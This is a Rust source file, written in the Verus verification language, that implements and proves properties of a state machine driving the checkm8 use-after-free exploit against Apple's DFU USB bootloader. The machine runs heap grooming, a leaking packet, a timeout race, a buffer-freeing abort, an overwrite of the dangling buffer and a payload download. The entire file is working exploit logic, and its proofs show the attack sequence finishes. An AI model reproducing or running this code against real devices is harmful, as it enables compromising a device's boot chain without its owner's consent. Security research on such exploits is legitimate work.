use vstd::prelude::*;
use crate::dfu::{
    abort_view, checkm8_send_leaking_zlp, checkm8_send_normal_zlp, groom_followup,
    groom_followup_view, groom_probe, groom_probe_view, overwrite, overwrite_padding,
    overwrite_view, padding_view, payload_chunk_view, race_transfer, race_transfer_view,
    reset_request, reset_view, send_abort, send_payload, stall_usb_request, stall_view, zlp_view,
    DFU_MAX_TRANSFER_SIZE, LEAKING_ZLP_LENGTH, NORMAL_ZLP_LENGTH, RESET_STEPS,
};
use crate::transfer::{ControlRequest, RequestView, TransferOutcome};

verus! {

/// Most grooming passes before the attempt is given up.
pub const GROOM_CAP: u32 = 500;

/// Normal zero-length packets that fill the hole.
pub const HOLE_FILL_COUNT: usize = 5;

/// Timeout, in milliseconds, that grooming and the race start from.
pub const INITIAL_TIMEOUT: u32 = 10;

/// Each pass moves the timeout one up, modulo this.
pub const TIMEOUT_MODULUS: u32 = 10;

/// Where an exploit attempt stands: the request that it issues next.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum Stage {
    /// Request `k` of the reset sequence.
    Reset(usize),
    /// The probe that stalls the endpoint.
    Stall,
    /// The first probe of a grooming pass.
    GroomProbe,
    /// The second probe of a grooming pass.
    GroomFollowup,
    /// Normal packet `k` of the hole fill.
    FillHole(usize),
    /// The leaking packet.
    Leak,
    /// The long download of a race pass.
    RaceTransfer,
    /// The padding overwrite of a race pass.
    RacePadding,
    /// The abort that frees the buffer.
    Abort,
    /// The write over the dangling buffer.
    Overwrite,
    /// The payload download from this offset.
    Payload(usize),
    /// Everything was sent.
    Done,
    /// Grooming reached its cap; the attempt starts over from a scan.
    Abandoned,
}

/// One exploit attempt on one device.
pub struct ExploitSession {
    stage: Stage,
    timeout: u32,
    passes: u32,
    overwrite: Vec<u8>,
    payload: Vec<u8>,
}

/// The mathematical value of an `ExploitSession`.
pub struct SessionView {
    pub stage: Stage,
    pub timeout: u32,
    pub passes: u32,
    pub overwrite: Seq<u8>,
    pub payload: Seq<u8>,
}

impl View for ExploitSession {
    type V = SessionView;

    closed spec fn view(&self) -> SessionView {
        SessionView {
            stage: self.stage,
            timeout: self.timeout,
            passes: self.passes,
            overwrite: self.overwrite@,
            payload: self.payload@,
        }
    }
}

/// Why a session could not be made.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum SessionError {
    /// The overwrite does not fit in one transfer.
    OverwriteTooLong,
}

/// The timeout that follows `t` on the next pass.
pub open spec fn next_timeout(t: u32) -> u32 {
    ((t + 1) % TIMEOUT_MODULUS as int) as u32
}

impl SessionView {
    pub open spec fn wf(self) -> bool {
        &&& self.timeout <= INITIAL_TIMEOUT
        &&& self.passes < GROOM_CAP
        &&& self.overwrite.len() <= DFU_MAX_TRANSFER_SIZE
        &&& match self.stage {
            Stage::Reset(k) => k < RESET_STEPS,
            Stage::FillHole(k) => k < HOLE_FILL_COUNT,
            Stage::Payload(off) => off < self.payload.len(),
            _ => true,
        }
    }

    /// The stages of the heap grooming loop.
    pub open spec fn is_grooming(self) -> bool {
        self.stage is Stall || self.stage is GroomProbe || self.stage is GroomFollowup
    }

    /// The stages that come after grooming, the end of the attempt included.
    pub open spec fn past_grooming(self) -> bool {
        !(self.stage is Reset) && !self.is_grooming()
    }

    pub open spec fn with_stage(self, stage: Stage) -> SessionView {
        SessionView { stage, ..self }
    }

    /// The request that this state issues, if any.
    pub open spec fn request(self) -> Option<RequestView> {
        match self.stage {
            Stage::Reset(k) => Some(reset_view(k as int)),
            Stage::Stall => Some(stall_view()),
            Stage::GroomProbe => Some(groom_probe_view(self.timeout)),
            Stage::GroomFollowup => Some(groom_followup_view()),
            Stage::FillHole(_) => Some(zlp_view(NORMAL_ZLP_LENGTH)),
            Stage::Leak => Some(zlp_view(LEAKING_ZLP_LENGTH)),
            Stage::RaceTransfer => Some(race_transfer_view(self.timeout)),
            Stage::RacePadding => Some(padding_view()),
            Stage::Abort => Some(abort_view()),
            Stage::Overwrite => Some(overwrite_view(self.overwrite)),
            Stage::Payload(off) => Some(payload_chunk_view(self.payload, off as int)),
            Stage::Done | Stage::Abandoned => None,
        }
    }

    /// The state after this state's request came back with `outcome`.
    ///
    /// Only two outcomes steer: a refused grooming probe ends grooming, and a
    /// race download that did not time out ends the race. The others only
    /// move on to the next request.
    pub open spec fn step(self, outcome: TransferOutcome) -> SessionView {
        match self.stage {
            Stage::Reset(k) => if k + 1 < RESET_STEPS {
                self.with_stage(Stage::Reset((k + 1) as usize))
            } else {
                self.with_stage(Stage::Stall)
            },
            Stage::Stall => self.with_stage(Stage::GroomProbe),
            Stage::GroomProbe => if outcome is Failed {
                self.with_stage(Stage::FillHole(0))
            } else {
                self.with_stage(Stage::GroomFollowup)
            },
            Stage::GroomFollowup => if self.passes + 1 >= GROOM_CAP {
                SessionView {
                    stage: Stage::Abandoned,
                    timeout: next_timeout(self.timeout),
                    passes: 0,
                    ..self
                }
            } else {
                SessionView {
                    stage: Stage::GroomProbe,
                    timeout: next_timeout(self.timeout),
                    passes: (self.passes + 1) as u32,
                    ..self
                }
            },
            Stage::FillHole(k) => if k + 1 < HOLE_FILL_COUNT {
                self.with_stage(Stage::FillHole((k + 1) as usize))
            } else {
                self.with_stage(Stage::Leak)
            },
            Stage::Leak => SessionView {
                stage: Stage::RaceTransfer,
                timeout: INITIAL_TIMEOUT,
                ..self
            },
            Stage::RaceTransfer => if outcome is TimedOut {
                self.with_stage(Stage::RacePadding)
            } else {
                self.with_stage(Stage::Abort)
            },
            Stage::RacePadding => SessionView {
                stage: Stage::RaceTransfer,
                timeout: next_timeout(self.timeout),
                ..self
            },
            Stage::Abort => self.with_stage(Stage::Overwrite),
            Stage::Overwrite => if self.payload.len() > 0 {
                self.with_stage(Stage::Payload(0))
            } else {
                self.with_stage(Stage::Done)
            },
            Stage::Payload(off) => if off + DFU_MAX_TRANSFER_SIZE < self.payload.len() {
                self.with_stage(Stage::Payload((off + DFU_MAX_TRANSFER_SIZE) as usize))
            } else {
                self.with_stage(Stage::Done)
            },
            Stage::Done | Stage::Abandoned => self,
        }
    }
}

/// The state of a fresh session.
pub open spec fn initial_session(overwrite: Seq<u8>, payload: Seq<u8>) -> SessionView {
    SessionView {
        stage: Stage::Reset(0),
        timeout: INITIAL_TIMEOUT,
        passes: 0,
        overwrite,
        payload,
    }
}

/// The state after the outcomes `outs`, one per request, in order.
pub open spec fn run(s: SessionView, outs: Seq<TransferOutcome>) -> SessionView
    decreases outs.len(),
{
    if outs.len() == 0 {
        s
    } else {
        run(s.step(outs[0]), outs.drop_first())
    }
}

/// The requests issued while the outcomes `outs` come back, in order.
pub open spec fn requests_of(s: SessionView, outs: Seq<TransferOutcome>) -> Seq<RequestView>
    decreases outs.len(),
{
    if outs.len() == 0 {
        Seq::empty()
    } else {
        let head = match s.request() {
            Some(r) => seq![r],
            None => Seq::empty(),
        };
        head + requests_of(s.step(outs[0]), outs.drop_first())
    }
}

impl ExploitSession {
    /// Starts an attempt that writes `overwrite` over the dangling buffer and
    /// then downloads `payload`. The overwrite must fit in one transfer.
    pub fn new(overwrite: Vec<u8>, payload: Vec<u8>) -> (r: Result<ExploitSession, SessionError>)
        ensures
            overwrite@.len() > DFU_MAX_TRANSFER_SIZE <==> r is Err,
            r matches Ok(s) ==> s@ == initial_session(overwrite@, payload@) && s@.wf(),
    {
        if overwrite.len() > DFU_MAX_TRANSFER_SIZE as usize {
            return Err(SessionError::OverwriteTooLong);
        }
        Ok(ExploitSession {
            stage: Stage::Reset(0),
            timeout: INITIAL_TIMEOUT,
            passes: 0,
            overwrite,
            payload,
        })
    }

    pub fn stage(&self) -> (r: Stage)
        ensures
            r == self@.stage,
    {
        self.stage
    }

    /// The current timeout of grooming or of the race.
    pub fn timeout(&self) -> (r: u32)
        ensures
            r == self@.timeout,
    {
        self.timeout
    }

    /// Grooming passes made so far.
    pub fn passes(&self) -> (r: u32)
        ensures
            r == self@.passes,
    {
        self.passes
    }

    /// True once nothing is left to send, whether the attempt went through
    /// or was given up.
    pub fn is_finished(&self) -> (r: bool)
        ensures
            r == (self@.stage is Done || self@.stage is Abandoned),
            r == (self@.request() is None),
    {
        match self.stage {
            Stage::Done | Stage::Abandoned => true,
            _ => false,
        }
    }

    /// The request to issue now; `None` once the attempt is over.
    pub fn current_request(&self) -> (r: Option<ControlRequest>)
        requires
            self@.wf(),
        ensures
            match r {
                Some(q) => self@.request() == Some(q@),
                None => self@.request() is None,
            },
    {
        match self.stage {
            Stage::Reset(k) => Some(reset_request(k)),
            Stage::Stall => Some(stall_usb_request()),
            Stage::GroomProbe => Some(groom_probe(self.timeout)),
            Stage::GroomFollowup => Some(groom_followup()),
            Stage::FillHole(_) => Some(checkm8_send_normal_zlp()),
            Stage::Leak => Some(checkm8_send_leaking_zlp()),
            Stage::RaceTransfer => Some(race_transfer(self.timeout)),
            Stage::RacePadding => Some(overwrite_padding()),
            Stage::Abort => Some(send_abort()),
            Stage::Overwrite => Some(overwrite(&self.overwrite)),
            Stage::Payload(off) => Some(send_payload(&self.payload, off)),
            Stage::Done | Stage::Abandoned => None,
        }
    }

    /// Takes in the outcome of the current request and moves on.
    pub fn advance(&mut self, outcome: TransferOutcome)
        requires
            old(self)@.wf(),
        ensures
            final(self)@ == old(self)@.step(outcome),
            final(self)@.wf(),
    {
        match self.stage {
            Stage::Reset(k) => {
                self.stage = if k + 1 < RESET_STEPS {
                    Stage::Reset(k + 1)
                } else {
                    Stage::Stall
                };
            },
            Stage::Stall => {
                self.stage = Stage::GroomProbe;
            },
            Stage::GroomProbe => {
                self.stage = match outcome {
                    TransferOutcome::Failed(_) => Stage::FillHole(0),
                    _ => Stage::GroomFollowup,
                };
            },
            Stage::GroomFollowup => {
                self.timeout = (self.timeout + 1) % TIMEOUT_MODULUS;
                if self.passes + 1 >= GROOM_CAP {
                    self.stage = Stage::Abandoned;
                    self.passes = 0;
                } else {
                    self.stage = Stage::GroomProbe;
                    self.passes = self.passes + 1;
                }
            },
            Stage::FillHole(k) => {
                self.stage = if k + 1 < HOLE_FILL_COUNT {
                    Stage::FillHole(k + 1)
                } else {
                    Stage::Leak
                };
            },
            Stage::Leak => {
                self.stage = Stage::RaceTransfer;
                self.timeout = INITIAL_TIMEOUT;
            },
            Stage::RaceTransfer => {
                self.stage = match outcome {
                    TransferOutcome::TimedOut => Stage::RacePadding,
                    _ => Stage::Abort,
                };
            },
            Stage::RacePadding => {
                self.stage = Stage::RaceTransfer;
                self.timeout = (self.timeout + 1) % TIMEOUT_MODULUS;
            },
            Stage::Abort => {
                self.stage = Stage::Overwrite;
            },
            Stage::Overwrite => {
                self.stage = if self.payload.len() > 0 {
                    Stage::Payload(0)
                } else {
                    Stage::Done
                };
            },
            Stage::Payload(off) => {
                self.stage = if self.payload.len() - off > DFU_MAX_TRANSFER_SIZE as usize {
                    Stage::Payload(off + DFU_MAX_TRANSFER_SIZE as usize)
                } else {
                    Stage::Done
                };
            },
            Stage::Done | Stage::Abandoned => {},
        }
    }
}

/// Requests that grooming can still issue from a state, at most.
pub open spec fn groom_budget(s: SessionView) -> int {
    match s.stage {
        Stage::Stall => 1 + 2 * (GROOM_CAP - s.passes),
        Stage::GroomProbe => 2 * (GROOM_CAP - s.passes),
        Stage::GroomFollowup => 2 * (GROOM_CAP - s.passes) - 1,
        _ => 0,
    }
}

/// Every step keeps a session well formed.
pub proof fn lemma_step_wf(s: SessionView, outcome: TransferOutcome)
    requires
        s.wf(),
    ensures
        s.step(outcome).wf(),
{
}

/// A session that has left grooming never returns to it.
pub proof fn lemma_past_grooming_stays(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.past_grooming(),
    ensures
        run(s, outs).past_grooming(),
    decreases outs.len(),
{
    if outs.len() > 0 {
        lemma_past_grooming_stays(s.step(outs[0]), outs.drop_first());
    }
}

proof fn lemma_grooming_within_budget(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.is_grooming(),
        outs.len() >= groom_budget(s),
    ensures
        run(s, outs).past_grooming(),
    decreases outs.len(),
{
    let t = s.step(outs[0]);
    lemma_step_wf(s, outs[0]);
    if t.past_grooming() {
        lemma_past_grooming_stays(t, outs.drop_first());
    } else {
        assert(groom_budget(t) < groom_budget(s));
        lemma_grooming_within_budget(t, outs.drop_first());
    }
}

/// Heap grooming ends, whatever the probes report: after at most
/// `2 * GROOM_CAP + 1` requests the session has moved past it, either to the
/// hole fill or to giving up.
pub proof fn lemma_grooming_terminates(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.is_grooming(),
        outs.len() >= 2 * GROOM_CAP + 1,
    ensures
        run(s, outs).past_grooming(),
{
    lemma_grooming_within_budget(s, outs);
}

/// When no grooming probe is refused, the loop runs out its cap and the
/// attempt is given up: from the first probe of a pass, after the
/// `2 * (GROOM_CAP - passes)` requests that the remaining passes make.
pub proof fn lemma_grooming_gives_up(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.stage is GroomProbe,
        outs.len() == 2 * (GROOM_CAP - s.passes),
        forall|i: int| 0 <= i < outs.len() ==> !(#[trigger] outs[i] is Failed),
    ensures
        run(s, outs).stage is Abandoned,
    decreases outs.len(),
{
    let s1 = s.step(outs[0]);
    let rest = outs.drop_first();
    assert(!(outs[0] is Failed));
    let s2 = s1.step(rest[0]);
    assert(run(s1, rest) == run(s2, rest.drop_first()));
    if s.passes + 1 < GROOM_CAP {
        assert forall|i: int| 0 <= i < rest.drop_first().len() implies !(
        #[trigger] rest.drop_first()[i] is Failed) by {
            assert(rest.drop_first()[i] == outs[i + 2]);
        }
        lemma_grooming_gives_up(s2, rest.drop_first());
    } else {
        assert(rest.drop_first().len() == 0);
    }
}

/// Most transfers that the heap fengshui stage makes: the stall, at most
/// `2 * GROOM_CAP - 1` grooming probes before a refusal, and the six packets
/// of the hole fill and the leak.
pub const FENGSHUI_MAX_TRANSFERS: u32 = 2 * GROOM_CAP + 6;

impl SessionView {
    /// The stages of heap fengshui: stall, grooming, hole fill and leak.
    pub open spec fn in_fengshui(self) -> bool {
        self.is_grooming() || self.stage is FillHole || self.stage is Leak
    }

    /// The stages after heap fengshui, the end of the attempt included.
    pub open spec fn past_fengshui(self) -> bool {
        !(self.stage is Reset) && !self.in_fengshui()
    }
}

/// Transfers that heap fengshui can still make from a state, at most.
pub open spec fn fengshui_budget(s: SessionView) -> int {
    match s.stage {
        Stage::Stall => 8 + 2 * (GROOM_CAP - 1 - s.passes),
        Stage::GroomProbe => 7 + 2 * (GROOM_CAP - 1 - s.passes),
        Stage::GroomFollowup => 6 + 2 * (GROOM_CAP - 1 - s.passes),
        Stage::FillHole(k) => 6 - k,
        Stage::Leak => 1,
        _ => 0,
    }
}

/// A session that has left heap fengshui never returns to it.
pub proof fn lemma_past_fengshui_stays(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.past_fengshui(),
    ensures
        run(s, outs).past_fengshui(),
    decreases outs.len(),
{
    if outs.len() > 0 {
        lemma_past_fengshui_stays(s.step(outs[0]), outs.drop_first());
    }
}

proof fn lemma_fengshui_within_budget(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.in_fengshui(),
        outs.len() >= fengshui_budget(s),
    ensures
        run(s, outs).past_fengshui(),
    decreases outs.len(),
{
    let t = s.step(outs[0]);
    lemma_step_wf(s, outs[0]);
    if t.past_fengshui() {
        lemma_past_fengshui_stays(t, outs.drop_first());
    } else {
        assert(fengshui_budget(t) < fengshui_budget(s));
        lemma_fengshui_within_budget(t, outs.drop_first());
    }
}

/// The heap fengshui stage as a whole is bounded, whatever the transfers
/// report, every probe timing out included: from any of its states, after
/// at most `FENGSHUI_MAX_TRANSFERS` transfers the session has moved on to
/// the race or has given up.
pub proof fn lemma_fengshui_bounded(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.in_fengshui(),
        outs.len() >= FENGSHUI_MAX_TRANSFERS,
    ensures
        run(s, outs).past_fengshui(),
{
    lemma_fengshui_within_budget(s, outs);
}

/// The timeout after `k` more passes from `t`.
pub open spec fn timeout_after(t: u32, k: nat) -> u32
    decreases k,
{
    if k == 0 {
        t
    } else {
        timeout_after(next_timeout(t), (k - 1) as nat)
    }
}

/// The timeout of the `k`-th long download of a race, counting from 0:
/// 10, then 1, 2, ..., 9, 0, 1, ...
pub open spec fn race_timeout(k: nat) -> u32 {
    if k == 0 {
        INITIAL_TIMEOUT
    } else {
        (k % 10) as u32
    }
}

proof fn lemma_timeout_after_mod(t: u32, k: nat)
    requires
        t < 10,
    ensures
        timeout_after(t, k) == (t + k) % 10,
    decreases k,
{
    if k > 0 {
        lemma_timeout_after_mod(next_timeout(t), (k - 1) as nat);
    }
}

proof fn lemma_race_timeout(k: nat)
    ensures
        timeout_after(INITIAL_TIMEOUT, k) == race_timeout(k),
{
    if k > 0 {
        lemma_timeout_after_mod(1, (k - 1) as nat);
    }
}

/// Outcomes of a race with `n` passes: each long download times out and the
/// padding after it reports anything; then the long download does not time
/// out.
pub open spec fn is_race_script(outs: Seq<TransferOutcome>, n: nat) -> bool {
    &&& outs.len() == 2 * n + 1
    &&& forall|k: int| 0 <= k < n ==> (#[trigger] outs[2 * k]) is TimedOut
    &&& !(outs[2 * n as int] is TimedOut)
}

proof fn lemma_race_from(s: SessionView, outs: Seq<TransferOutcome>, n: nat)
    requires
        s.wf(),
        s.stage is RaceTransfer,
        is_race_script(outs, n),
    ensures
        requests_of(s, outs).len() == 2 * n + 1,
        forall|k: int|
            0 <= k <= n ==> #[trigger] requests_of(s, outs)[2 * k] == race_transfer_view(
                timeout_after(s.timeout, k as nat),
            ),
        forall|k: int| 0 <= k < n ==> #[trigger] requests_of(s, outs)[2 * k + 1] == padding_view(),
        run(s, outs).stage is Abort,
    decreases n,
{
    let r = requests_of(s, outs);
    if n == 0 {
        assert(outs[2 * (n as int)] == outs[0]);
        assert(outs.drop_first().len() == 0);
        assert(run(s, outs) == run(s.step(outs[0]), outs.drop_first()));
        assert(requests_of(s.step(outs[0]), outs.drop_first()) == Seq::<RequestView>::empty());
        assert(r =~= seq![race_transfer_view(s.timeout)]);
    } else {
        assert(outs[2 * (0 as int)] is TimedOut);
        let s1 = s.step(outs[0]);
        let o1 = outs.drop_first();
        let s2 = s1.step(o1[0]);
        let rest = o1.drop_first();
        assert(is_race_script(rest, (n - 1) as nat)) by {
            assert forall|k: int| 0 <= k < n - 1 implies (#[trigger] rest[2 * k]) is TimedOut by {
                assert(rest[2 * k] == outs[2 * (k + 1)]);
            }
            assert(rest[2 * (n - 1)] == outs[2 * n as int]);
        }
        lemma_race_from(s2, rest, (n - 1) as nat);
        let r2 = requests_of(s2, rest);
        assert(requests_of(s1, o1) == seq![padding_view()] + r2);
        assert(r == seq![race_transfer_view(s.timeout)] + (seq![padding_view()] + r2));
        assert(run(s, outs) == run(s1, o1));
        assert(run(s1, o1) == run(s2, rest));
        assert forall|k: int| 0 <= k <= n implies #[trigger] r[2 * k] == race_transfer_view(
            timeout_after(s.timeout, k as nat),
        ) by {
            if k > 0 {
                assert(r[2 * k] == r2[2 * (k - 1)]);
            }
        }
        assert forall|k: int| 0 <= k < n implies #[trigger] r[2 * k + 1] == padding_view() by {
            if k > 0 {
                assert(r[2 * k + 1] == r2[2 * (k - 1) + 1]);
            }
        }
    }
}

/// The race issues one padding overwrite per long download that timed out,
/// and the abort right after the first that did not: with `n` timeouts the
/// requests alternate long download and padding `n` times, end with one more
/// long download, and the session then stands at the abort. The long
/// downloads' timeouts run 10, 1, 2, ..., 9, 0, 1, ...
pub proof fn lemma_race_pads_each_timeout(s: SessionView, outs: Seq<TransferOutcome>, n: nat)
    requires
        s.wf(),
        s.stage is RaceTransfer,
        s.timeout == INITIAL_TIMEOUT,
        is_race_script(outs, n),
    ensures
        requests_of(s, outs).len() == 2 * n + 1,
        forall|k: int|
            0 <= k <= n ==> #[trigger] requests_of(s, outs)[2 * k] == race_transfer_view(
                race_timeout(k as nat),
            ),
        forall|k: int| 0 <= k < n ==> #[trigger] requests_of(s, outs)[2 * k + 1] == padding_view(),
        run(s, outs).stage is Abort,
        run(s, outs).request() == Some(abort_view()),
{
    lemma_race_from(s, outs, n);
    assert forall|k: int| 0 <= k <= n implies #[trigger] requests_of(s, outs)[2 * k]
        == race_transfer_view(race_timeout(k as nat)) by {
        lemma_race_timeout(k as nat);
    }
}

/// The race begins at the initial timeout, right after the leaking packet.
pub proof fn lemma_race_starts_fresh(s: SessionView, outcome: TransferOutcome)
    requires
        s.wf(),
        s.stage is Leak,
    ensures
        s.step(outcome).stage is RaceTransfer,
        s.step(outcome).timeout == INITIAL_TIMEOUT,
{
}

/// Running two runs of outcomes one after the other.
pub proof fn lemma_run_concat(s: SessionView, a: Seq<TransferOutcome>, b: Seq<TransferOutcome>)
    ensures
        run(s, a + b) == run(run(s, a), b),
    decreases a.len(),
{
    if a.len() > 0 {
        assert((a + b).drop_first() =~= a.drop_first() + b);
        assert((a + b)[0] == a[0]);
        lemma_run_concat(s.step(a[0]), a.drop_first(), b);
    } else {
        assert(a + b =~= b);
    }
}

/// A run keeps a session well formed and never changes the bytes that it
/// sends.
pub proof fn lemma_run_keeps_data(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
    ensures
        run(s, outs).wf(),
        run(s, outs).overwrite == s.overwrite,
        run(s, outs).payload == s.payload,
    decreases outs.len(),
{
    if outs.len() > 0 {
        lemma_step_wf(s, outs[0]);
        lemma_run_keeps_data(s.step(outs[0]), outs.drop_first());
    }
}

/// Payload downloads still to come from the one at `offset`.
pub open spec fn chunks_left(len: int, offset: int) -> nat
    decreases len - offset,
{
    if offset < 0 || offset + DFU_MAX_TRANSFER_SIZE >= len {
        1
    } else {
        1 + chunks_left(len, offset + DFU_MAX_TRANSFER_SIZE)
    }
}

/// Transfers from the abort to the end: the abort, the overwrite and the
/// payload downloads.
pub open spec fn tail_transfers(payload_len: nat) -> nat {
    2 + if payload_len == 0 {
        0
    } else {
        chunks_left(payload_len as int, 0)
    }
}

proof fn lemma_steps_any(s: SessionView, outs: Seq<TransferOutcome>, k: nat)
    requires
        s.wf(),
        s.stage == Stage::Reset(0) || s.stage == Stage::FillHole(0),
        outs.len() == k,
        k == 3 || k == 6,
        s.stage == Stage::Reset(0) <==> k == 3,
    ensures
        run(s, outs) == (if k == 3 {
            s.with_stage(Stage::Stall)
        } else {
            SessionView { stage: Stage::RaceTransfer, timeout: INITIAL_TIMEOUT, ..s }
        }),
{
    reveal_with_fuel(run, 7);
}

proof fn lemma_tail_reaches_done(s: SessionView, outs: Seq<TransferOutcome>)
    requires
        s.wf(),
        s.stage is Overwrite || s.stage is Payload || s.stage is Done,
        s.payload.len() <= usize::MAX,
        outs.len() >= match s.stage {
            Stage::Overwrite => (tail_transfers(s.payload.len()) - 1) as int,
            Stage::Payload(off) => chunks_left(s.payload.len() as int, off as int) as int,
            _ => 0,
        },
    ensures
        run(s, outs).stage is Done,
    decreases outs.len(),
{
    if outs.len() > 0 {
        let t = s.step(outs[0]);
        lemma_step_wf(s, outs[0]);
        match s.stage {
            Stage::Payload(off) => {
                if off + DFU_MAX_TRANSFER_SIZE < s.payload.len() {
                    assert(chunks_left(s.payload.len() as int, off as int) == 1 + chunks_left(
                        s.payload.len() as int,
                        off + DFU_MAX_TRANSFER_SIZE,
                    ));
                }
            },
            _ => {},
        }
        lemma_tail_reaches_done(t, outs.drop_first());
    }
}

proof fn lemma_grooming_ends_at_refusal(s: SessionView, outs: Seq<TransferOutcome>, k: nat)
    requires
        s.wf(),
        s.stage is GroomProbe,
        s.passes + k < GROOM_CAP,
        outs.len() == 2 * k + 1,
        forall|j: int| 0 <= j < k ==> !(#[trigger] outs[2 * j] is Failed),
        outs[2 * k as int] is Failed,
    ensures
        run(s, outs).stage == Stage::FillHole(0),
        run(s, outs).overwrite == s.overwrite,
        run(s, outs).payload == s.payload,
        run(s, outs).wf(),
    decreases k,
{
    if k == 0 {
        assert(outs[2 * (0 as int)] == outs[0]);
        assert(run(s, outs) == run(s.step(outs[0]), outs.drop_first()));
        assert(outs.drop_first().len() == 0);
    } else {
        assert(outs[2 * (0 as int)] == outs[0]);
        let s1 = s.step(outs[0]);
        let o1 = outs.drop_first();
        let s2 = s1.step(o1[0]);
        let rest = o1.drop_first();
        assert(run(s, outs) == run(s1, o1));
        assert(run(s1, o1) == run(s2, rest));
        assert forall|j: int| 0 <= j < k - 1 implies !(#[trigger] rest[2 * j] is Failed) by {
            assert(rest[2 * j] == outs[2 * (j + 1)]);
        }
        assert(rest[2 * (k - 1)] == outs[2 * k as int]);
        lemma_grooming_ends_at_refusal(s2, rest, (k - 1) as nat);
    }
}

/// A fresh attempt reaches its end when heap grooming succeeds and the race
/// is won: after the reset (3 transfers), the stall and `k` grooming passes
/// ended by a refused probe before the cap, the hole fill and the leak
/// (6 transfers), a race of `n` timed-out long downloads with their
/// paddings, and the abort, overwrite and payload downloads, the session is
/// done, whatever the transfers that do not steer report.
pub proof fn lemma_pipeline_completes(
    overwrite: Seq<u8>,
    payload: Seq<u8>,
    reset: Seq<TransferOutcome>,
    groom: Seq<TransferOutcome>,
    k: nat,
    fill: Seq<TransferOutcome>,
    race: Seq<TransferOutcome>,
    n: nat,
    tail: Seq<TransferOutcome>,
)
    requires
        overwrite.len() <= DFU_MAX_TRANSFER_SIZE,
        payload.len() <= usize::MAX,
        reset.len() == RESET_STEPS,
        k < GROOM_CAP,
        groom.len() == 2 * k + 2,
        forall|j: int| 0 <= j < k ==> !(#[trigger] groom[2 * j + 1] is Failed),
        groom[2 * k as int + 1] is Failed,
        fill.len() == HOLE_FILL_COUNT + 1,
        is_race_script(race, n),
        tail.len() == tail_transfers(payload.len()),
    ensures
        run(initial_session(overwrite, payload), reset + groom + fill + race + tail).stage is Done,
{
    let s0 = initial_session(overwrite, payload);
    lemma_steps_any(s0, reset, 3);
    let s1 = run(s0, reset);
    let s2 = s1.step(groom[0]);
    let g = groom.drop_first();
    assert forall|j: int| 0 <= j < k implies !(#[trigger] g[2 * j] is Failed) by {
        assert(g[2 * j] == groom[2 * j + 1]);
    }
    assert(g[2 * k as int] == groom[2 * k as int + 1]);
    lemma_grooming_ends_at_refusal(s2, g, k);
    assert(run(s1, groom) == run(s2, g));
    let s3 = run(s1, groom);
    lemma_steps_any(s3, fill, 6);
    let s4 = run(s3, fill);
    lemma_race_from(s4, race, n);
    let s5 = run(s4, race);
    lemma_run_keeps_data(s0, reset);
    lemma_run_keeps_data(s3, fill);
    lemma_run_keeps_data(s4, race);
    lemma_step_wf(s5, tail[0]);
    let s6 = s5.step(tail[0]);
    lemma_tail_reaches_done(s6, tail.drop_first());
    assert(run(s5, tail) == run(s6, tail.drop_first()));
    lemma_run_concat(s0, reset, groom);
    lemma_run_concat(s0, reset + groom, fill);
    lemma_run_concat(s0, reset + groom + fill, race);
    lemma_run_concat(s0, reset + groom + fill + race, tail);
}

} // verus!
